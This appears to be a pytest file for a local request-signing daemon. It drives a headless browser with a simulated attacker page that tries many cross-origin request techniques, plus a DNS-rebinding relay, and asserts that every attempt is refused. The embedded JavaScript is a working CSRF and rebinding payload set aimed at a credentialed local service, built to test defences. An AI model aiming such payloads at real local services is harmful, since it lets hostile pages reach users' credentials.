# SPDX-License-Identifier: Apache-2.0
"""A real browser against a running daemon (T1, T2): a page of another origin tries every way a page
has to send a request, and a page whose name was rebound to this machine asks as the same origin. The
daemon must have seen the attempts, or the test would prove nothing; the upstream must not."""

import http.server
import json
import os
import re
import signal
import socket
import subprocess
import threading

import pytest

from browser import BROWSER, home, in_a_browser
from checks import assert_ok
from client import until
from daemon import seconds
from relay import Relay

pytestmark = in_a_browser

# Each attempt is a request with its own Action, which the daemon's log tells. Those that a browser
# never sends are marked: it must be its own rule that stops them, and not one of ours they depend on.
PAGE = """<!doctype html><meta charset=utf-8><title>page</title><body><script>
const base = "%(base)s/?Version=2020-04-01&Action=";
const out = {};
function note(name, promise) {
  return promise.then(r => { out[name] = r === undefined ? "done" : r; },
                      e => { out[name] = "refused: " + e.name; });
}
function read(r) { return r.text().then(t => r.type + " " + r.status + " " + t.length); }
function load(tag, name, set) {
  return note(name, new Promise((ok, no) => {
    const e = document.createElement(tag);
    e.onload = () => ok("loaded"); e.onerror = () => ok("error");
    set(e); document.body.appendChild(e); setTimeout(() => ok("no event"), 1500);
  }));
}
async function all() {
  const f = (name, init) => note(name, fetch(base + name, init).then(read));
  await f("FetchCors", {mode: "cors"});
  await f("FetchNoCors", {mode: "no-cors"});
  await f("FetchSameOrigin", {mode: "same-origin"});
  await f("FetchNavigate", {mode: "navigate"});
  await f("FetchHeader", {mode: "cors", headers: {"X-Sigferry-Service": "ecs"}});
  await f("FetchPut", {mode: "cors", method: "PUT", body: "x"});
  await f("FetchDelete", {mode: "cors", method: "DELETE"});
  await f("FetchPostText", {mode: "no-cors", method: "POST", body: "a=b"});
  await f("FetchPostForm", {mode: "no-cors", method: "POST", body: new URLSearchParams({a: "b"})});
  await f("FetchPostJson", {mode: "cors", method: "POST", body: "{}",
                            headers: {"Content-Type": "application/json"}});
  await f("FetchCredentials", {mode: "cors", credentials: "include"});
  await f("FetchNoReferrer", {mode: "no-cors", referrerPolicy: "no-referrer"});
  await f("FetchKeepalive", {mode: "no-cors", method: "POST", keepalive: true, body: "x"});
  await note("Xhr", new Promise((ok, no) => {
    const x = new XMLHttpRequest(); x.open("GET", base + "Xhr");
    x.onload = () => ok("read " + x.status); x.onerror = () => ok("error"); x.send();
  }));
  await note("Beacon", Promise.resolve(navigator.sendBeacon(base + "Beacon", "a=b")));
  await load("img", "Image", e => e.src = base + "Image");
  await load("script", "Script", e => e.src = base + "Script");
  await load("link", "Style", e => { e.rel = "stylesheet"; e.href = base + "Style"; });
  await load("link", "Prefetch", e => { e.rel = "prefetch"; e.href = base + "Prefetch"; });
  await load("iframe", "Frame", e => e.src = base + "Frame");
  await load("object", "Object", e => e.data = base + "Object");
  await load("video", "Video", e => { e.onloadeddata = e.onload; e.src = base + "Video"; });
  for (const [name, method, type] of [["FormGet", "GET", ""], ["FormPost", "POST", ""],
                                      ["FormText", "POST", "text/plain"],
                                      ["FormMultipart", "POST", "multipart/form-data"]]) {
    await note(name, new Promise(ok => {
      const e = document.createElement("iframe"), form = document.createElement("form");
      e.name = name; document.body.appendChild(e);
      form.method = method; form.target = name; form.enctype = type || form.enctype;
      form.action = base + name;
      for (const [n, v] of method == "GET" ? [["Action", name], ["Version", "2020-04-01"]] : [["a", "b"]]) {
        const i = document.createElement("input"); i.name = n; i.value = v; form.appendChild(i);
      }
      document.body.appendChild(form);
      e.onload = () => ok("loaded"); setTimeout(() => ok("no event"), 1500); form.submit();
    }));
  }
  await note("WebSocket", new Promise(ok => {
    const w = new WebSocket(base.replace("http", "ws") + "WebSocket");
    w.onopen = () => ok("open"); w.onerror = () => ok("error");
  }));
  await note("EventSource", new Promise(ok => {
    const s = new EventSource(base + "EventSource");
    s.onopen = () => ok("open"); s.onerror = () => { s.close(); ok("error"); };
  }));
  await note("Worker", new Promise(ok => {
    const b = new Blob(["importScripts('" + base + "Worker')"], {type: "text/javascript"});
    const w = new Worker(URL.createObjectURL(b)); w.onerror = () => ok("error"); setTimeout(() => ok("none"), 1000);
  }));
  await note("Popup", Promise.resolve(String(window.open(base + "Popup"))));
}
all().catch(e => { out.failed = String(e); }).then(() =>
  fetch("/result", {method: "POST", body: JSON.stringify(out)})).then(() => {
    const how = "%(leave)s";
    if (how == "location") location = base + "MainFrame";
    if (how == "meta") document.head.innerHTML += '<meta http-equiv=refresh content="0;url=' + base + 'MainFrame">';
    if (how == "form") { const f = document.createElement("form"); f.method = "POST"; f.action = base + "MainFrame";
                         document.body.appendChild(f); f.submit(); }
  });
</script>"""

REBOUND = """<!doctype html><meta charset=utf-8><title>rebound</title><script>
const out = {};
async function ask(name, init) {
  try {
    const r = await fetch("/?Version=2020-04-01&Action=" + name, init);
    out[name] = r.status + " " + await r.text();
  } catch (e) { out[name] = "refused: " + e.name; }
}
async function all() {
  await ask("ReboundGet", {});
  await ask("ReboundHeader", {headers: {"X-Sigferry-Service": "ecs", "X-Sigferry-Region": "cn-beijing"}});
  await ask("ReboundPost", {method: "POST", body: "{}", headers: {"X-Sigferry-Service": "ecs",
                                                                  "Content-Type": "application/json"}});
  await ask("ReboundDelete", {method: "DELETE", headers: {"X-Sigferry-Service": "ecs"}});
  await ask("ReboundSigned", {headers: {"Authorization":
    "HMAC-SHA256 Credential=AK/20260101/cn-beijing/ecs/request, SignedHeaders=host, Signature=" + "0".repeat(64)}});
  await ask("ReboundNoReferrer", {referrerPolicy: "no-referrer", headers: {"X-Sigferry-Service": "ecs"}});
}
all().then(() => fetch("http://page.test:%(port)d/result", {method: "POST", mode: "no-cors", body: JSON.stringify(out)}));
</script>"""

# What browsers refuse to send at all, or may leave out when headless.
NEVER_SENT = {"FetchSameOrigin", "FetchNavigate", "FetchHeader", "FetchPut", "FetchDelete", "FetchPostJson"}
OPTIONAL = {"Prefetch", "Popup", "Object", "Video", "Worker", "Style"}
TRIED = re.findall(r'\b(?:f|load|note)\((?:"[a-z]+", )?"([A-Z]\w+)"', PAGE) + ["FormGet", "FormPost", "FormText",
                                                                       "FormMultipart", "MainFrame"]


class Site:
    """The attacker's server: a page at /, and what the page found out."""

    def __init__(self, address=("127.0.0.1", 0)):
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = site.page.encode() if self.path == "/" else b""
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                data = self.rfile.read(int(self.headers["Content-Length"]))
                site.result = json.loads(data)
                self.send_response(204)
                self.end_headers()
                site.done.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(address, Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.page, self.result, self.done = "", None, threading.Event()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Switch(Relay):
    """The rebound name's address: shows the page once, and from then on is the daemon, byte for byte."""

    def __init__(self, port, to, page):
        self.to, self.page, self.shown = to, page.encode(), False
        super().__init__(("127.0.0.2", port))

    def serve(self, s):
        data = s.recv(65536)
        if not data:
            s.close()
        elif data.startswith(b"GET / HTTP"):
            self.shown = True
            s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
                      % len(self.page) + self.page)
            s.close()
        else:
            far = socket.create_connection(self.to)
            far.sendall(data)
            self.join(s, far)


@pytest.fixture
def browse():
    """browse(url): starts the browser there."""
    with home() as (directory, env):
        yield from browsing(directory, env)


def browsing(directory, env):
    started = []

    def start(url):
        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync",
                 "--disable-default-apps", "--disable-extensions", "--disable-dev-shm-usage", "--mute-audio",
                 "--no-proxy-server", "--disable-popup-blocking", "--disable-crash-reporter",
                 "--user-data-dir=%s/profile%d" % (directory, len(started)),
                 "--host-resolver-rules=MAP page.test 127.0.0.1, MAP rebound.test 127.0.0.2"]
        started.append(subprocess.Popen([BROWSER, *flags, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, start_new_session=True, env=env))

    yield start
    for p in started:
        os.killpg(p.pid, signal.SIGKILL)  # its own session: the browser and its helpers, nobody else
        p.wait()


@pytest.fixture
def site():
    s = Site()
    yield s
    s.close()


def lines_of(d, action):
    return [x for x in d.lines if 'msg="access"' in x and "action=%s " % action in x]


@pytest.mark.parametrize("leave,own", [("location", "local name"), ("meta", "local name"),
                                       ("form", "local name"), ("location", "listener")])
def test_a_page_of_another_origin(daemon, upstream, browse, site, leave, own):
    """By SERVICE.REGION.localhost, and with a listener that has a service: no header is needed."""
    d = daemon(service="ecs" if own == "listener" else None)
    host = "localhost" if own == "listener" else "ecs.cn-beijing.localhost"
    base = "http://%s:%d" % (host, d.port)
    site.page = PAGE % {"base": base, "leave": leave}
    browse("http://page.test:%d/" % site.port)
    assert site.done.wait(seconds(60)), "the page told nothing"
    until(lambda: lines_of(d, "MainFrame"), seconds(20), "the navigation")
    assert upstream.requests == [] and upstream.accepted == 0
    result = site.result
    assert set(TRIED) - {"MainFrame"} - OPTIONAL <= set(result), set(TRIED) - set(result)
    for name in TRIED:
        seen = lines_of(d, name)
        if name not in NEVER_SENT | OPTIONAL:
            assert seen, "%s never reached the daemon: %s" % (name, result.get(name))
        for line in seen:
            assert "status=403 " in line and "error=OriginNotAllowed" in line, line
        if name in NEVER_SENT:
            # at most a preflight, which is refused as well
            assert all("method=OPTIONS" in x for x in seen) and result[name].startswith("refused"), (name, seen)
    for name in ("FetchCors", "FetchCredentials"):
        assert result[name].startswith("refused"), result  # nothing of the answer can be read
    assert result["FetchNoCors"] == "opaque 0 0" and result["Xhr"] == "error", result
    # the same without a browser passes: what was refused above was the page
    assert_ok(d.request("GET", "/?Version=2020-04-01&Action=FetchCors", host="%s:%d" % (host, d.port), service=None))
    assert len(upstream.requests) == 1


def test_an_address_typed_or_followed_from_elsewhere(daemon, upstream, browse):
    """Sec-Fetch-Site: none, which is also what a link in a mail program leads to."""
    d = daemon()
    browse("http://ecs.cn-beijing.localhost:%d/?Version=2020-04-01&Action=Typed" % d.port)
    line = until(lambda: lines_of(d, "Typed"), seconds(30), "the request")[0]
    assert "status=403 " in line and "error=OriginNotAllowed" in line
    assert upstream.requests == []


def test_a_rebound_name(daemon, upstream, browse, site):
    d = daemon(service="ecs")
    switch = Switch(d.port, d.address, REBOUND % {"port": site.port})
    try:
        browse("http://rebound.test:%d/" % d.port)
        assert site.done.wait(seconds(60)) and switch.shown
    finally:
        switch.close()
    assert len(site.result) == 6
    until(lambda: sum("error=HostNotAllowed" in x for x in d.lines) >= 6, seconds(5), "a line for each")
    for name, answer in site.result.items():
        assert answer.startswith("403 ") and "HostNotAllowed" in answer, (name, answer)
    assert upstream.requests == []
    assert_ok(d.request("GET", "/?Version=2020-04-01&Action=ReboundGet", service=None))
